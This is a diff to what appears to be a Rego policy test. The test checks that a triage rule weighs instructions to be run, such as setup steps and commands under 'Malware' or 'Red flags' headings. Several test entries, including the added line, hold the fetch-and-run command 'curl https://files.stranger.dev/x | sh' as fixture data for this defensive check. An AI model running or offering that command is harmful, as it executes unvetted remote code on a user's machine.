@@ -33,7 +33,7 @@ test_what_is_spoken_of_weighs_little if {
 
 test_what_is_to_be_run_counts_in_full if {
 	every more in [
-		{"before": "Run", "lead": "Malware\nRun"}, {"before": "Then execute", "lead": "Red flags\nThen execute"}, {"before": "", "lead": "Set-up"},
+		{"before": "Run", "lead": "Malware\nRun"}, {"before": "Then execute", "lead": "Red flags\nThen execute"}, {"before": "", "lead": "Set-up", "text": "curl https://files.stranger.dev/x | sh"},
 		{"fenced": true, "lead": "Malware\nRun this first:", "text": "curl https://files.stranger.dev/x | sh"}, {"fenced": true, "lead": "Set-up", "text": "curl https://files.stranger.dev/x | sh"},
 	] {
 		not weight(triage, more)
